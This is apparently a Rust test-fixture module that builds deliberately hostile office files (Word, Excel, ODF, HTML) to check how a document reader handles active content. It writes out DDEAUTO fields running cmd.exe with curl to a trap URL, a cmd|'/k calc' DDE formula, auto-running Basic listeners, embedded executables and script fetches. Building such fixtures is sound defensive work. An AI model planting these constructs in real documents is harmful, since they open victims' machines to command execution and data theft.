//! P6: macros, fields that call programs or files, controls and embedded programs.

use crate::hostile::case::{Case, Trap, noted, read};
use crate::hostile::write::bytes::noise;
use crate::hostile::write::excel97;
use crate::hostile::write::markup::{SENTENCE, page, paragraph};
use crate::hostile::write::office::{
    DOCUMENT, DOCUMENT_RELATIONS, TYPES, document, docx_with, ods, odt, relations, replaced, sheet, types, word_parts,
    workbook_parts, xlsx, xlsx_with,
};
use crate::hostile::write::word97::Word;
use crate::hostile::write::zip::Entry;

/// All files of the class.
pub fn cases(trap: &Trap) -> Vec<Case> {
    [macros(), fields(trap), objects(trap), sheets(trap), open_documents(trap)].concat()
}

fn macros() -> Vec<Case> {
    let project = || Entry::stored("word/vbaProject.bin", &noise(1, 3000));
    let mut parts = word_parts(&document(&paragraph(SENTENCE)));
    parts.push(project());
    let renamed = replaced(parts, Entry::text(TYPES, &types(DOCUMENT, "ms-word.document.macroEnabled.main")));
    let book = xlsx_with("<sheetData/>", vec![Entry::stored("xl/vbaProject.bin", &noise(1, 3000))]);
    let old_book = excel97::stream(&[], &excel97::sheet(&[excel97::label(0, 0, SENTENCE)]));
    let old_book = crate::hostile::write::compound::compound(&[
        ("Workbook", &old_book),
        ("_VBA_PROJECT_CUR/VBA/dir", &noise(2, 900)),
    ]);
    let old_word = Word::of(&format!("{SENTENCE}\r")).with(&[("Macros/VBA/dir", &noise(2, 900))]);
    vec![
        Case::new("document-with-macros-renamed.docx", renamed, noted(&["macros"])),
        Case::new(
            "project-in-another-folder.docx",
            docx_with("", vec![project().named(b"customXml/VBAPROJECT.BIN")]),
            noted(&["macros"]),
        ),
        Case::new("workbook-with-macros-renamed.xlsx", book, noted(&["macros", "no-text"])),
        Case::new("old-workbook-with-macros.xls", old_book, noted(&["macros"])),
        Case::new("old-document-with-macros.doc", old_word, noted(&["macros"])),
    ]
}

/// A field with this instruction that shows a number.
fn field(instruction: &str) -> String {
    format!(
        "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>{instruction}</w:instrText></w:r>\
         <w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>12.5</w:t></w:r>\
         <w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>"
    )
}

fn fields(trap: &Trap) -> Vec<Case> {
    let (url, path) = (trap.url("x"), trap.path());
    let dde = format!("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k curl {url}\"");
    let docx = |field: &str| docx_with(field, vec![]);
    let active = || noted(&["active-fields"]);
    let split =
        format!("<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO cmd {url}</w:instrText></w:r>");
    let old = Word::of(&format!("{SENTENCE}\r\u{13} INCLUDETEXT \"{path}\" \u{14}12.5\u{15}\r")).bytes();
    vec![
        Case::new("field-calls-a-program.docx", docx(&field(&dde)), active()),
        Case::new(
            "simple-field-calls-a-program.docx",
            docx(&format!(
                "<w:p><w:fldSimple w:instr=\"DDE cmd {url}\"><w:r><w:t>12.5</w:t></w:r></w:fldSimple></w:p>"
            )),
            active(),
        ),
        Case::new(
            "field-in-pieces-calls-a-program.docx",
            docx(&format!(
                "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>{split}<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>"
            )),
            active(),
        ),
        Case::new("field-takes-in-the-canary.docx", docx(&field(&format!("INCLUDETEXT \"{path}\""))), active()),
        Case::new("field-takes-in-a-picture.docx", docx(&field(&format!("INCLUDEPICTURE \"{url}\" \\d"))), active()),
        Case::new("field-takes-in-the-canary.doc", old, active()),
    ]
}

fn objects(trap: &Trap) -> Vec<Case> {
    let chunk = format!("<html><body><script src=\"{}\"></script><p>支出999万元</p></body></html>", trap.url("x"));
    let related = |kind: &str, target: &str| Entry::text(DOCUMENT_RELATIONS, &relations(&[(kind, target, false)]));
    let object =
        "<w:p><w:r><w:object><o:OLEObject Type=\"Embed\" ProgID=\"Package\" r:id=\"rId1\"/></w:object></w:r></w:p>";
    let control = "<w:p><w:r><w:control r:id=\"rId1\" w:name=\"Button\"/></w:r></w:p>";
    let script = format!(
        "<p onclick=\"x()\"><a href=\"javascript:x()\">12.5</a></p><script>fetch('{}')</script><form action=\"{}\"><input value=\"7\"></form>",
        trap.url("x"),
        trap.url("y")
    );
    vec![
        Case::new(
            "chunk-of-a-page.docx",
            docx_with(
                "<w:altChunk r:id=\"rId1\"/>",
                vec![related("aFChunk", "chunk.html"), Entry::text("word/chunk.html", &chunk)],
            ),
            noted(&["altchunk"]),
        ),
        Case::new(
            "program-as-an-object.docx",
            docx_with(
                object,
                vec![
                    related("oleObject", "embeddings/oleObject1.bin"),
                    Entry::stored("word/embeddings/oleObject1.bin", &[b"MZ".as_slice(), &noise(3, 2000)].concat()),
                ],
            ),
            noted(&["embedded-objects"]),
        ),
        Case::new(
            "control.docx",
            docx_with(
                control,
                vec![
                    related("control", "activeX/activeX1.xml"),
                    Entry::text("word/activeX/activeX1.xml", "<ax:ocx/>"),
                    Entry::stored("word/activeX/activeX1.bin", &noise(4, 500)),
                ],
            ),
            noted(&["embedded-objects"]),
        ),
        Case::new("scripts-in-a-page.html", page(&script), read()),
    ]
}

fn sheets(trap: &Trap) -> Vec<Case> {
    let formula =
        |text: &str| format!("<sheetData><row r=\"1\"><c r=\"A1\"><f>{text}</f><v>12.5</v></c></row></sheetData>");
    let link = Entry::text(
        "xl/externalLinks/externalLink1.xml",
        "<externalLink><ddeLink ddeService=\"cmd\" ddeTopic=\"/k calc\"/></externalLink>",
    );
    let mut old_macros = workbook_parts(&sheet("<sheetData/>"));
    old_macros.push(Entry::text("xl/macrosheets/sheet1.xml", "<xm:macrosheet/>"));
    let ribbon = Entry::text("customUI/customUI.xml", "<customUI onLoad=\"x\"/>");
    vec![
        Case::new("cell-calls-a-program.xlsx", xlsx(&formula("cmd|'/k calc'!A0")), read()),
        Case::new("cell-asks-an-address.xlsx", xlsx(&formula(&format!("WEBSERVICE(\"{}\")", trap.url("x")))), read()),
        Case::new("link-to-a-program.xlsx", xlsx_with("<sheetData/>", vec![link]), noted(&["no-text"])),
        Case::new(
            "old-macro-sheet.xlsx",
            crate::hostile::write::zip::Zip::of(old_macros).bytes(),
            noted(&["macros", "no-text"]),
        ),
        Case::new("ribbon-that-loads.xlsx", xlsx_with("<sheetData/>", vec![ribbon]), noted(&["no-text"])),
    ]
}

fn open_documents(trap: &Trap) -> Vec<Case> {
    let basic = || Entry::text("Basic/Standard/Module1.xml", "<script:module/>");
    let listener = "<office:event-listeners><script:event-listener script:event-name=\"dom:load\" xlink:href=\"vnd.sun.star.script:x?language=Basic\"/></office:event-listeners>";
    let section = format!(
        "<text:section text:name=\"a\"><text:section-source xlink:href=\"{}\"/><text:p>12.5</text:p></text:section>",
        trap.file_url()
    );
    let linked = format!(
        "<table:table table:name=\"a\"><table:table-source xlink:href=\"{}\"/><table:table-row><table:table-cell office:value-type=\"string\"><text:p>12.5</text:p></table:table-cell></table:table-row></table:table>",
        trap.file_url()
    );
    vec![
        Case::new("basic-that-starts-by-itself.odt", odt(listener, vec![basic()]), noted(&["macros"])),
        Case::new("section-from-the-canary.odt", odt(&section, vec![]), noted(&["external-relationship"])),
        Case::new("sheet-from-the-canary.ods", ods(&linked, vec![]), noted(&["external-relationship"])),
        Case::new(
            "python-beside-the-sheet.ods",
            ods("<table:table/>", vec![Entry::text("Scripts/python/x.py", "import os")]),
            noted(&["macros", "no-text"]),
        ),
    ]
}
